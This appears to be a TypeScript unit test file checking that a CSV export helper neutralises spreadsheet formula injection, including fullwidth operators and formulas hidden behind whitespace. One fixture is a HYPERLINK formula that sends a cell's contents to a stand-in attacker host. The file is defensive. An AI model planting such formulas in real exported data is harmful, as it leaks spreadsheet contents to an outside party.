import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { inertCsvCell } from '../../../server/http/csvCell.ts';

/** A ticket subject that stayed a live formula once papaparse had escaped it. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")&\n""';

describe('inertCsvCell: CSV cells stay inert', () => {
  it.each(['=1+2', '+1', '-2+3', '@SUM(A1)', '\t=1', '\rx', '\tplain', '\rplain'])(
    'prefixes %j with a single quote',
    (value) => {
      expect(inertCsvCell(value)).toBe(`'${value}`);
    },
  );

  it('escapes a formula whatever follows, line breaks included', () => {
    expect(inertCsvCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(inertCsvCell('=1+2\r\nsecond line')).toBe("'=1+2\r\nsecond line");
    expect(inertCsvCell('-\n')).toBe("'-\n");
  });

  it('escapes a formula behind blanks, which a spreadsheet trims before reading it', () => {
    for (const value of ['  =1+2', ' @x', '\n=1+2', '\u00a0-1', '  \n  +cmd']) {
      expect(inertCsvCell(value), JSON.stringify(value)).toBe(`'${value}`);
    }
  });

  it.each(['＝1+2', '＋1', '－2+3', '＠SUM(A1)', ' ＝HYPERLINK("x")'])(
    'a formula cell gets a leading quote (docs/architecture.md): prefixes the fullwidth operator of %j, as its ASCII twin',
    (value) => {
      expect(inertCsvCell(value)).toBe(`'${value}`);
    },
  );

  it('leaves other text as it is, formula characters further in included', () => {
    for (const value of [
      'Smith',
      "O'Brien",
      'a=b',
      'Open\n=1+2',
      '2026-11-26T05:00:00Z',
      ' Lee ',
      '',
      'x@y.ca',
      'a＝b',
    ]) {
      expect(inertCsvCell(value), JSON.stringify(value)).toBe(value);
    }
  });

  it('leaves numbers, flags and empty cells alone: the column type decides, not the text', () => {
    expect(inertCsvCell(-5)).toBe(-5);
    expect(inertCsvCell(-5.25)).toBe(-5.25);
    expect(inertCsvCell(0)).toBe(0);
    expect(inertCsvCell(true)).toBe(true);
    expect(inertCsvCell(null)).toBeNull();
    expect(inertCsvCell(undefined)).toBeUndefined();
    // The same characters as text are a text column's: escaped.
    expect(inertCsvCell('-5.00')).toBe("'-5.00");
  });

  it('round-trips through a CSV file as one quoted cell that starts with the quote', () => {
    const line = Papa.unparse([[1, inertCsvCell(HYPERLINK), inertCsvCell(-5)]]);
    expect(Papa.parse<string[]>(line).data[0]).toEqual(['1', `'${HYPERLINK}`, '-5']);
  });
});
